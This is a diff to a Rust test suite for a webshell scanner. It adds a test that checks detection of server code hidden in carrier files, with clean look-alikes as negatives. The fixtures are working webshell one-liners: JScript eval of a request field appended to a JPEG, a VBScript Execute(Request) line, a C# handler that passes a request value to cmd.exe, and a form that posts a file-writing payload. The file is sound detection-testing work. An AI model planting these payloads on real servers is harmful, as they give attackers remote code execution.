@@ -13,8 +13,10 @@ use std::collections::BTreeSet;
 use std::path::Path;
 
 /// Shells of `webshells-more/` (155 files) found at medium or above: 99 before the normaliser
-/// and the behaviour rules of issue 15, 141 after. A floor: raise it when recall improves.
-const WEBSHELLS_MORE_FLOOR: usize = 141;
+/// and the behaviour rules of issue 15, 141 after, 148 with carrier files (pictures, notes, files
+/// without an extension, App_Code sources) probed for server code, form-field credentials of a
+/// database console and one-liner clients. A floor: raise it when recall improves.
+const WEBSHELLS_MORE_FLOOR: usize = 148;
 
 /// Names (last path component) of the files with a finding of medium or above.
 fn flagged(findings: &[Finding]) -> BTreeSet<String> {
@@ -360,4 +362,74 @@ Do While Not rs.EOF : Response.Write rs(0) : rs.MoveNext : Loop
             "{name}: {out:#?}"
         );
     }
+}
+
+/// Server code carried by files of other types is selected by the triage scan and found: a
+/// picture with a one-liner appended (past the first 32 KiB, so the tail probe finds it), a note
+/// holding a handler, a file without an extension, an App_Code source; look-alikes (a picture, a
+/// note about `<%` tags, a plain C# class) are not even selected. A client form of a one-liner
+/// is a medium finding.
+#[test]
+fn carrier_files_selected_and_scanned() {
+    let dir = common::scratch().join("carriers");
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    let mut jpg = b"\xFF\xD8\xFF\xE0\x00\x10JFIF\x00".to_vec();
+    jpg.extend((0..40_000u32).map(|i| (i * 7 % 251) as u8));
+    let clean_jpg = jpg.clone();
+    jpg.extend_from_slice(br#"<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>"#);
+    let files: &[(&str, &[u8])] = &[
+        ("pic.jpg", &jpg),
+        ("clean.jpg", &clean_jpg),
+        (
+            "howto.txt",
+            b"save this as x.aspx:\n<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>\n",
+        ),
+        ("tags.txt", b"ASP pages open code with <% and close it with %>.\n"),
+        (
+            "oneliner",
+            b"<!-- a --> <% If Request(\"k\") <> \"\" Then Execute(Request(\"k\")) %>",
+        ),
+        (
+            "Handler.cs",
+            br#"using System.Web; using System.Diagnostics;
+public class H : IHttpHandler {
+  public void ProcessRequest(HttpContext context) {
+    Process.Start("cmd.exe", "/c " + context.Request["c"]); }
+  public bool IsReusable { get { return false; } } }"#,
+        ),
+        ("Plain.cs", b"public class P { public int A; }"),
+        (
+            "client.aspx",
+            br#"<html><form action="http://10.0.0.1/x.aspx" method="post">
+<textarea name="z">var w = new System.IO.StreamWriter(Server.MapPath("y.aspx"), false); w.Write(Request.Item["l"]); w.Close();</textarea>
+<input type="submit"></form></html>"#,
+        ),
+    ];
+    for (name, data) in files {
+        std::fs::write(dir.join(name), data).unwrap();
+    }
+    let findings = scan_dir(&dir);
+    let hit = flagged(&findings);
+    for name in [
+        "pic.jpg",
+        "howto.txt",
+        "oneliner",
+        "Handler.cs",
+        "client.aspx",
+    ] {
+        assert!(hit.contains(name), "{name} not found: {findings:#?}");
+    }
+    for name in ["clean.jpg", "tags.txt", "Plain.cs"] {
+        assert!(
+            !findings.iter().any(|f| f.location.path.ends_with(name)),
+            "{name}: {findings:#?}"
+        );
+    }
+    let client = findings
+        .iter()
+        .filter(|f| f.location.path.ends_with("client.aspx"))
+        .map(|f| f.severity)
+        .max();
+    assert_eq!(client, Some(Severity::Medium));
 }
